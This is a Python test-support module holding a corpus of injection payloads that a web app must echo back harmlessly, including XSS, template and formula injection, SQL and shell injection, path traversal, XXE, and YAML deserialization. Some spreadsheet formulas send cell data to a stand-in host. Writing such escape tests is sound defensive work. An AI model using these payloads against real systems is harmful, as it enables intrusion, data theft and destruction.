"""What somebody might type to make a page, a sheet, a log or a template do something: each must come back as typed.

In a browser that watches (`tests/support/watching.py`), `ran()` tells that a payload was executed.
"""

from __future__ import annotations

from itertools import islice
from typing import Final

_SCRIPTS = """
<script>ran()</script>
<ScRiPt>ran()</sCrIpT>
<script >ran()</script >
<script/x>ran()</script>
<script>alert(1)</script>
<script src=/static/nowhere.js></script>
<script src=//other.example/x.js></script>
<script src="data:text/javascript,ran()"></script>
<script type=module>ran()</script>
<script>ran()//
<script>ran()<!--</script>
<<script>ran();//<</script>
</script><script>ran()</script>
</title><script>ran()</script>
</textarea><script>ran()</script>
</style><script>ran()</script>
</noscript><script>ran()</script>
</select><script>ran()</script>
</option></select><script>ran()</script>
</svg><script>ran()</script>
--><script>ran()</script>
]]><script>ran()</script>
*/ran()/*
';ran();//
";ran();//
`;ran();//
\\';ran();//
${ran()}
'-ran()-'
"-ran()-"
\\u003cscript\\u003eran()\\u003c/script\\u003e
\\x3cscript\\x3eran()\\x3c/script\\x3e
%3Cscript%3Eran()%3C/script%3E
&lt;script&gt;ran()&lt;/script&gt;
&#60;script&#62;ran()&#60;/script&#62;
&#x3c;script&#x3e;ran()&#x3c;/script&#x3e;
&amp;lt;script&amp;gt;
+ADw-script+AD4-ran()+ADw-/script+AD4-
"""
_ATTRIBUTES = """
" onmouseover="ran()
' onmouseover='ran()
" onfocus="ran()" autofocus="
' onfocus='ran()' autofocus='
" autofocus onfocus=ran() x="
x onfocus=ran() autofocus tabindex=1
"><img src=x onerror=ran()>
'><img src=x onerror=ran()>
><img src=x onerror=ran()>
"/><svg onload=ran()>
'/><svg onload=ran()>
" style="background:url(/style-of-a-patient)
" style="position:fixed;inset:0
" formaction="javascript:ran()
" action="//other.example/
" href="javascript:ran()
" id="content" class="urgent
" type="image" src="x" onerror="ran()
" accesskey="x" onclick="ran()
" hidden checked selected disabled="
" data-print="x
" target="_blank" rel="opener
`onmouseover=ran()
``onerror=ran()
\\" onmouseover=\\"ran()
&quot; onmouseover=&quot;ran()
&#34; onmouseover=&#34;ran()
"onmouseover="ran()"/
"""
_EVENTS = """
<img src=x onerror=ran()>
<img src=x onerror="ran()">
<img src=x onerror='ran()'>
<img src=x onerror=ran`1`>
<img/src=x/onerror=ran()>
<IMG SRC=x ONERROR=ran()>
<img src=x:x onerror=ran()//
<img src=/static/icon.svg onload=ran()>
<image src=x onerror=ran()>
<body onload=ran()>
<body onpageshow=ran()>
<input autofocus onfocus=ran()>
<textarea autofocus onfocus=ran()>
<select autofocus onfocus=ran()>
<button autofocus onfocus=ran()>x
<keygen autofocus onfocus=ran()>
<video src=x onerror=ran()>
<video><source onerror=ran()>
<audio src=x onerror=ran()>
<details open ontoggle=ran()>
<marquee onstart=ran()>x
<iframe onload=ran()>
<iframe src=/article/ onload=ran()>
<iframe srcdoc="<script>parent.ran()</script>">
<iframe src=javascript:parent.ran()>
<object data=x onerror=ran()>
<object data=javascript:ran()>
<embed src=javascript:ran()>
<frameset onload=ran()>
<p onpointerover=ran()>x</p>
<a onmouseover=ran()>x</a>
<b tabindex=1 autofocus onfocus=ran()>x</b>
<div style=animation-name:x onanimationstart=ran()>
<style>@keyframes x{}</style><p style=animation:x onanimationend=ran()>
<dialog open oncancel=ran()>x
<form><button formaction=javascript:ran()>x
<form action=javascript:ran()><input type=submit>
<form id=f></form><button form=f formaction=javascript:ran()>x
<isindex action=javascript:ran()>
<link rel=stylesheet href=x onerror=ran()>
<style onload=ran()></style>
<portal src=x onload=ran()>
<slot onslotchange=ran()>
"""
_SVG = """
<svg onload=ran()>
<svg/onload=ran()>
<svg><script>ran()</script>
<svg><script href=data:,ran()></script>
<svg><animate onbegin=ran() attributeName=x dur=1s>
<svg><set onbegin=ran() attributeName=x>
<svg><a xlink:href=javascript:ran()><text y=20>x</text></a>
<svg><a><animate attributeName=href values=javascript:ran() /><text y=20>x</text></a>
<svg><use href=data:image/svg+xml,x></use>
<svg><foreignObject><img src=x onerror=ran()></foreignObject>
<svg><image href=x onerror=ran()>
<svg><style>*{fill:url(x)}</style>
<svg><desc><script>ran()</script></desc>
<svg><title><a title="</title><img src=x onerror=ran()>">
</desc></svg><img src=x onerror=ran()>
<math><a xlink:href=javascript:ran()>x</a></math>
<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>
"""
_ADDRESSES = """
javascript:ran()
JaVaScRiPt:ran()
java script:ran()
javascript&colon;ran()
&#106;avascript:ran()
javascript://%0aran()
javascript:/*--></title></style></textarea></script>ran()
data:text/html,<script>ran()</script>
data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
//other.example/
https://other.example/<img src=x onerror=ran()>
/\\other.example
https:other.example
<a href=javascript:ran()>read</a>
<a href="//other.example/" ping="//other.example/">read</a>
<base href=//other.example/>
<meta http-equiv=refresh content="0;url=//other.example/">
<meta http-equiv=refresh content="0;url=javascript:ran()">
<link rel=prefetch href=//other.example/>
<link rel=stylesheet href=//other.example/x.css>
<img src=//other.example/pixel.gif>
<img srcset="//other.example/pixel.gif 1x">
<picture><source srcset=//other.example/x><img>
<video poster=//other.example/x>
<object data=//other.example/>
<table background=//other.example/x>
<style>@import "//other.example/x.css";</style>
<style>body{background:url(//other.example/x)}</style>
<p style="background:url(//other.example/x)">
"""
_TEMPLATES = """
{{7*7}}
{{ 7*'7' }}
{% raw %}{{ 7*7 }}
{% endblock %}{{ 7*7 }}
{# a comment #}
{{ config.items() }}
{{ config['SECRET_KEY'] }}
{{ self.__init__.__globals__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{% for x in ().__class__.__base__.__subclasses__() %}x
{%- include "desk/queue.html" -%}
{{ request.application }}
{{ url_for.__globals__ }}
{{ "<script>ran()</script>"|safe }}
#{7*7}
${7*7}
<%= 7*7 %>
${{7*7}}
@(7*7)
*{7*7}
[[7*7]]
{{constructor.constructor('ran()')()}}
%(name)s %s %d %n
{0.__class__} {name}
"""
_SHEETS = '''
=1+1
=cmd|' /C calc'!A0
=HYPERLINK("//other.example/?"&A1,"see")
=IMPORTXML("//other.example/","//a")
=WEBSERVICE("//other.example/")
@SUM(1+1)*cmd|' /C calc'!A0
+1+1
+cmd|' /C calc'!A0
-1+1
-2+3+cmd|' /C calc'!A0
;=1+1
"=1+1"
",=1+1,"
"",""",=1+1
'''
_QUERIES = """
' OR '1'='1
'; DROP TABLE patient; --
" OR ""="
') UNION SELECT name FROM patient --
1; SELECT pg_sleep(9)
%' AND 1=1 --
_%_%
\\' OR 1=1 #
{"$gt": ""}
*)(uid=*))(|(uid=*
; cat /etc/passwd
| id
$(id)
`id`
&& id
../../../../etc/passwd
..\\..\\windows\\win.ini
file:///etc/passwd
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<?xml version="1.0"?><x/>
<?php echo 7*7 ?>
!!python/object/apply:os.system ["id"]
__proto__[x]=y
"""
_MARKDOWN = """
[read](javascript:ran())
[read](//other.example/)
![x](//other.example/x.png)
![x](x"onerror="ran())
<javascript:ran()>
[x]: javascript:ran()
```<script>ran()</script>```
# A heading
> quoted
- [ ] a task
**bold** _and_ `code`
| a | b |
&copy; &nbsp; &#x41;
<!-- a comment -->
"""
_LOGS = """
%0d%0aSet-Cookie: staff=x
%0aLocation: //other.example/
\\r\\nSet-Cookie: staff=x
\\n2026-11-23 signed in user=1
error reference=00000000 kind=Fine at=nowhere
%1b[2J%1b[31mred
\\x1b[31mred
{"level": "info", "signed": true}
Subject: hello Bcc: all@other.example
name=x&role=admin&severity=0
"""
_MUTATIONS = """
<noscript><p title="</noscript><img src=x onerror=ran()>">
<p title="</textarea><img src=x onerror=ran()>">
<style><style/><img src=x onerror=ran()>
<xmp><p title="</xmp><img src=x onerror=ran()>">
<noembed><p title="</noembed><img src=x onerror=ran()>">
<noframes><p title="</noframes><img src=x onerror=ran()>">
<plaintext>
<template><script>ran()</script></template>
<table><tr><td><form><p></table><img src=x onerror=ran()>
<a id=forms><a id=forms name=x>
<form name=body><input name=innerHTML>
<img name=currentScript src=x>
<listing>&lt;img src=x onerror=ran()&gt;</listing>
<select><template><img src=x onerror=ran()></template></select>
<!--><img src=x onerror=ran()>-->
<!--!><img src=x onerror=ran()>-->
<![CDATA[<img src=x onerror=ran()>]]>
<!x><img src=x onerror=ran()>
<?x><img src=x onerror=ran()>
</ <img src=x onerror=ran()>
<<img src=x onerror=ran()>
<\N{LATIN SMALL LETTER DOTLESS I}mg src=x onerror=ran()>
<\N{LATIN SMALL LETTER LONG S}cript>ran()</\N{LATIN SMALL LETTER LONG S}cript>
"""
_POLYGLOTS = """
jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */ran())//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=ran()>
"'><svg onload=ran()>{{7*7}}
'"--></style></script><script>ran()</script>
"><script>ran()</script>=1+1
'">><marquee><img src=x onerror=ran()></marquee></plaintext\\></|\\><plaintext/onmouseover=ran()>
--></title></textarea></select></svg><img src=x onerror=ran()>
</title></style></textarea></noscript></template></select></option></svg><svg onload=ran()>
"""
_UNICODE = (
    "＜script＞ran()＜/script＞",
    "﹤script﹥ran()﹤/script﹥",
    "‹script›ran()‹/script›",
    "\u202eterces\u202c",
    "\u2066<b>\u2069 isolated",
    "zero\u200bwidth\u200djoined\u2060",
    "\ufeff=1+1",
    "e\u0301 and é",
    "Ａ full width ＝1+1",
    "ﷺ ﷽ long",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉a͜l̡g̨o͝",
    "İIıi ß ẞ ǅ",
    "👩‍⚕️ 🏳️‍🌈 🇬🇧",
    "𝕽𝖔𝖇𝖎𝖓 𐍈 \U0010fffd",
    "مريم العلي",
    "שרה לוי",
    "नमस्ते 你好 こんにちは",
    "no\u00a0break and\u2007figure",
    "O'Brien & Sons <3",
    "5 < 6 > 4 && 'x' \"y\"",
    "line\nbreaks\n<script>ran()</script>\nand more",
    "a line\nthat forges\n2026-11-23 another line",
)

KINDS: Final = {
    "scripts": _SCRIPTS,
    "attributes": _ATTRIBUTES,
    "events": _EVENTS,
    "svg": _SVG,
    "addresses": _ADDRESSES,
    "templates": _TEMPLATES,
    "sheets": _SHEETS,
    "queries": _QUERIES,
    "markdown": _MARKDOWN,
    "logs": _LOGS,
    "mutations": _MUTATIONS,
    "polyglots": _POLYGLOTS,
}
PAYLOADS: Final = (*(line for lines in KINDS.values() for line in lines.strip().split("\n")), *_UNICODE)

# One of each way out of where text stands: together they are short enough for every field of a form at once.
TELLING: Final = (
    "<script>ran()</script>",
    '"><img src=x onerror=ran()>',
    "'><img src=y onerror=ran()>",
    '" autofocus onfocus="ran()',
    "</textarea></title></select><svg onload=ran()>",
    "</style></script></noscript><img src=//other.example/pixel.gif>",
    "{{7*7}}",
    "%0d%0aSet-Cookie: staff=x",
    "=cmd|' /C calc'!A0",
    "javascript:ran()",
    "&lt;b&gt; &amp;",
)
REFUSED: Final = (
    "\x1b[2J\x1b[31mred",
    "a bell \x07 rings",
    "a nul \x00 byte",
    "next \x85 line",
    "line\u2028separator",
    "paragraph\u2029separator",
    "del\x7fete",
    "back\x08space",
)
"""What no field stores; a page that refuses it shows a mark in its place."""


def every_way_out() -> str:
    return " ".join(TELLING)


def everything() -> str:
    """All payloads in one text. What swallows the rest of a page comes last, so that each has its chance."""
    swallowing = (
        "<!--",
        "<plaintext",
        "<xmp",
        "<noscript",
        "<style",
        "<template",
        "<noembed",
        "<noframes",
        "<textarea",
    )
    ordered = sorted(PAYLOADS, key=lambda payload: payload.startswith(swallowing))
    return "\n".join(ordered)


def in_parts(count: int) -> list[tuple[str, ...]]:
    """The payloads in groups of so many."""
    left = iter(PAYLOADS)
    return list(iter(lambda: tuple(islice(left, count)), ()))
